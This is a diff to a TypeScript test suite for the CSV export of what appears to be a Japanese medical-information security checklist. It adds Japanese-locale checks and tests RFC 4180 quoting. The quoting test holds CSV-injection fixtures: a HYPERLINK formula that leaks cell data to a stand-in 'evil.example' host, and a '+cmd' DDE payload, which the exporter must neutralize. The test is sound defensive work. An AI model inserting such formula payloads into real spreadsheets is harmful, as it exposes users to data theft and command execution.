@@ -180,23 +180,33 @@ describe('Excel export', () => {
 });
 
 describe('CSV export', () => {
-  const csv = renderFormCsv(model('institution'));
+  const csv = renderFormCsv(model('institution', { locale: 'en' }));
   const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
+
+  it('in Japanese: Japanese headings, はい / いいえ, dates Excel reads (issue 13)', () => {
+    const ja = renderFormCsv(model('institution')).replace(/^\uFEFF/, '').split('\r\n');
+    expect(ja[0]).toBe('項目ID,番号,対象,チェック項目,回,回答,確認日,目標日,備考');
+    expect(ja).toContain('2(4)@server,(4),サーバ,利用者の職種・担当業務別の情報区分毎のアクセス利用権限を設定している。,1,いいえ,2023/07/01,2024/02/01,');
+    expect(ja[1]).toBe('gate,医療情報システムの有無,医療情報システム全般,医療情報システムを導入、運用している。,1,はい,2023/07/01,,');
+  });
 
   it('starts with a BOM and a header, one CRLF line per item and round', () => {
     expect(csv.startsWith('\uFEFFid,label,scope,text,round,value,date,targetDate,note\r\n')).toBe(true);
-    expect(lines[1]).toBe('gate,医療情報システムの有無,general,医療情報システムを導入、運用している。,1,yes,2023-07-01,,');
-    expect(lines).toContain('2(4)@server,(4),server,利用者の職種・担当業務別の情報区分毎のアクセス利用権限を設定している。,1,no,2023-07-01,2024-02-01,');
-    expect(lines).toContain('2(4)@server,(4),server,利用者の職種・担当業務別の情報区分毎のアクセス利用権限を設定している。,2,yes,2024-01-20,,');
+    const fields = (line: string) => [line.split(',').slice(0, 3), line.split(',').slice(-5)];
+    expect(fields(lines[1]!)).toEqual([['gate', '医療情報システムの有無', 'general'], ['1', 'yes', '2023-07-01', '', '']]);
+    expect(lines.filter((l) => l.startsWith('2(4)@server,')).map(fields)).toEqual([
+      [['2(4)@server', '(4)', 'server'], ['1', 'no', '2023-07-01', '2024-02-01', '']],
+      [['2(4)@server', '(4)', 'server'], ['2', 'yes', '2024-01-20', '', '']],
+    ]);
     // Unanswered items still get a line, so the file lists the whole form.
-    expect(lines).toContain('2(6)@server,(6),server,アクセスログを管理している。,,,,,');
+    expect(lines.find((l) => l.startsWith('2(6)@server,'))).toMatch(/,,,,,$/);
     const items = catalog.form('2023', 'institution')!.items.length;
     expect(lines.filter(Boolean)).toHaveLength(1 + items + 1 + 2); // header; 2(4)@server has 2 rounds, 2(1) has 3
   });
 
   it('quotes per RFC 4180 and neutralizes formula-like cells', () => {
-    expect(lines).toContain(`1(1),(1),general,医療情報システム安全管理責任者を設置している。,1,yes,2023-07-01,,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""詳細"")"`);
-    const risky = renderFormCsv(model('institution', { answers: { '1(1)': [round(1, 'no', '2023-07-01', '2024-01-01', '+cmd|" /C calc"!A0\nline 2')] } }));
+    expect(lines.find((l) => l.startsWith('1(1),'))).toMatch(/,1,yes,2023-07-01,,"'=HYPERLINK\(""http:\/\/evil\.example\/\?leak=""&A1,""詳細""\)"$/);
+    const risky = renderFormCsv(model('institution', { locale: 'en', answers: { '1(1)': [round(1, 'no', '2023-07-01', '2024-01-01', '+cmd|" /C calc"!A0\nline 2')] } }));
     expect(risky).toContain(`"'+cmd|"" /C calc""!A0\nline 2"`);
   });
 
